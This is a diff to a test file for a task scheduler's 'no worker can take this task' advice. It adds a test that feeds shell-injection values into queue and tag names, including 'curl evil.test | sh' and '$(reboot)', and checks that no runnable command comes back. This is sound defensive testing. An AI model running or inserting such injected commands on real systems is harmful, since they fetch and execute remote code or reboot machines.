@@ -38,6 +38,15 @@ describe("what to do about tasks that no worker can take", () => {
     expect(advice.command).toBe("stratal worker --isolation-report");
   });
 
+  test.each([
+    { queue: "default", tags: ["lang:bash", "gpu; curl evil.test | sh"] },
+    { queue: "$(reboot)", tags: ["gpu"] },
+  ])("no command, for names that no worker can offer and a shell would run: %o", (demand) => {
+    expect(adviceFor(demand, []).command).toBeNull();
+    expect(adviceFor(demand, [worker]).command).toBeNull();
+    expect(adviceFor(demand, [worker]).text).toMatch(/No worker can offer “(gpu; curl|\$\(reboot)/);
+  });
+
   test("one worker that has all tags, when they are spread over several", () => {
     const gpu = { ...worker, tags: ["lang:bash", "gpu"] };
     const advice = adviceFor({ queue: "default", tags: ["gpu", "big"] }, [worker, gpu]);
